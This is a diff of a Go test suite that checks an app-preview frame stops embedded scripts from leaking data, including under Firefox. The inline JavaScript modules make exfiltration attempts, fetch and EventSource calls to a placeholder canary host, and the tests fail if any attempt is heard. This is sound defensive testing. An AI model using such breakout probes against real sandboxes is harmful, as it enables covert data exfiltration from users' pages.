@@ -41,10 +41,10 @@ var randomApps = flag.Int("random-apps", 20, "try so many apps that are put toge
 
 // breakouts are apps that try to get something out, in an order that keeps the frame's state of
 // one from hiding what another does.
-func breakouts(t testing.TB, seed uint64) []previewtest.App {
+func breakouts(t testing.TB, seed uint64) []breakout {
 	t.Helper()
 	program, boot := scripts(t)
-	return append(previewtest.Apps(program, boot), previewtest.Random(seed, *randomApps)...)
+	return append(listedBreakouts(program, boot), assembledBreakouts(seed, *randomApps)...)
 }
 
 // attackTime is for what is sent later, as STUN is, in milliseconds.
@@ -52,15 +52,15 @@ const attackTime = 100
 
 func TestFrame_LetsNoAppOut(t *testing.T) {
 	t.Parallel()
-	w, c := newWorld(t), previewtest.NewCanary(t)
+	w, c := newWorld(t), newCanary(t)
 	w.start(showing(good))
 	apps := breakouts(t, uint64(time.Now().UnixNano()))
 	for _, app := range apps {
-		app = c.Arm(app)
-		w.send(update{"files": app.Files()})
+		app = c.arm(app)
+		w.send(update{"files": app.files()})
 		js[any](w, fmt.Sprintf(`new Promise(ok => setTimeout(ok, %d))`, attackTime))
 	}
-	for _, heard := range c.Heard() {
+	for _, heard := range c.leaks() {
 		t.Errorf("received of %s", heard)
 	}
 	t.Logf("%d apps", len(apps))
@@ -68,7 +68,7 @@ func TestFrame_LetsNoAppOut(t *testing.T) {
 
 func TestFrame_LetsNoAppOutOfFirefox(t *testing.T) {
 	t.Parallel()
-	f, c := previewtest.NewFirefox(t), previewtest.NewCanary(t)
+	f, c := previewtest.NewFirefox(t), newCanary(t)
 	w := serve(t)
 	f.Visit(w.hub + "/")
 	f.Await("", "window.send")
@@ -83,11 +83,11 @@ func TestFrame_LetsNoAppOutOfFirefox(t *testing.T) {
 	}
 	apps := breakouts(t, uint64(time.Now().UnixNano()))
 	for _, app := range apps {
-		send(c.Arm(app).Files())
+		send(c.arm(app).files())
 		f.Script(fmt.Sprintf("window.waited = false; setTimeout(() => { window.waited = true }, %d); return 1", attackTime))
 		f.Await("", "window.waited")
 	}
-	for _, heard := range c.Heard() {
+	for _, heard := range c.leaks() {
 		t.Errorf("received of %s", heard)
 	}
 	t.Logf("%d apps", len(apps))
@@ -96,11 +96,11 @@ func TestFrame_LetsNoAppOutOfFirefox(t *testing.T) {
 // Firefox applies no connect-src to an EventSource of a worker, so that the stack's module must not have one.
 func TestFrame_ModuleHasNoEventSourceInFirefox(t *testing.T) {
 	t.Parallel()
-	f, c := previewtest.NewFirefox(t), previewtest.NewCanary(t)
+	f, c := previewtest.NewFirefox(t), newCanary(t)
 	w := serve(t)
 	f.Visit(w.hub + "/")
 	f.Await("", "window.send")
-	module := c.Arm(previewtest.App{Name: "module", Script: `export async function toArtifacts() {
+	module := c.arm(breakout{Name: "module", Script: `export async function toArtifacts() {
   const notes = []
   const attempt = (name, run) => { let text = name + ' made'; try { run() } catch (e) { text = name + ' ' + e.name } notes.push({ text }) }
   attempt('global', () => new EventSource('CANARY/global'))
@@ -119,7 +119,7 @@ func TestFrame_ModuleHasNoEventSourceInFirefox(t *testing.T) {
 	if strings.Contains(said, "made") || strings.Count(said, "Error") != 4 {
 		t.Errorf("the module's attempts: %s", said)
 	}
-	for _, heard := range c.Heard() {
+	for _, heard := range c.leaks() {
 		t.Errorf("received of %s", heard)
 	}
 }
@@ -130,14 +130,14 @@ func showing(script string) update {
 
 func TestFrame_LetsNothingOut(t *testing.T) {
 	t.Parallel()
-	w, c := newWorld(t), previewtest.NewCanary(t)
-	attempts := c.Arm(previewtest.App{Name: "attempts", Script: string(read(t, "testdata/exfiltrate.js"))})
+	w, c := newWorld(t), newCanary(t)
+	attempts := c.arm(breakout{Name: "attempts", Script: string(read(t, "testdata/exfiltrate.js"))})
 	w.start(showing("export {}\n" + attempts.Script))
 	js[any](w, `until(e => e.type === "failed" && e.message.includes("navigated away"))`) // the last attempt
 	js[any](w, `new Promise(ok => setTimeout(ok, 1000))`)                                 // for what is sent later, as STUN is
 	tried := js[[]string](w, `said.filter(s => s.startsWith("tried "))`)
 	// The stack's module tries it too.
-	module := c.Arm(previewtest.App{Name: "module", Script: `const tried = []
+	module := c.arm(breakout{Name: "module", Script: `const tried = []
 const attempt = async (name, run) => { try { await run() } catch {} tried.push(name) }
 export async function toArtifacts() {
   await attempt('fetch', () => fetch('CANARY/modulefetch'))
@@ -164,7 +164,7 @@ export async function toArtifacts() {
 	if all < 60 {
 		t.Errorf("only %d and %d attempts were made", len(tried), len(notes))
 	}
-	for _, heard := range c.Heard() {
+	for _, heard := range c.leaks() {
 		t.Errorf("received of %s", heard)
 	}
 	if where := js[string](w, "location.href + document.title"); where != w.hub+"/hub" {
